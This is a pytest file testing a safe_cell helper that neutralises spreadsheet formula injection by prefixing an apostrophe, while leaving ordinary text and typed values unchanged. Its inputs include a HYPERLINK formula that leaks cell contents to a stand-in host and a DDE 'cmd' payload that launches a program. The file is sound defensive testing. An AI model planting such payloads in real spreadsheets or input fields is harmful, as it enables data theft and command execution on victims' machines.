"""Text that a spreadsheet would run as a formula is written inert; values stay values."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest

from shared.spreadsheets import safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.invalid/?"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "=1",
        "-",
    ],
)
def test_formula_text_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Aygün", "", "'=already quoted", "1+1", "+994501234567", "-12.50", "-3", "<5", "a=b"],
)
def test_other_text_is_kept(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-3, Decimal("-12.50"), -0.25, 0, True, None, date(2026, 1, 31)])
def test_values_are_kept_as_values(value: object) -> None:
    assert safe_cell(value) is value
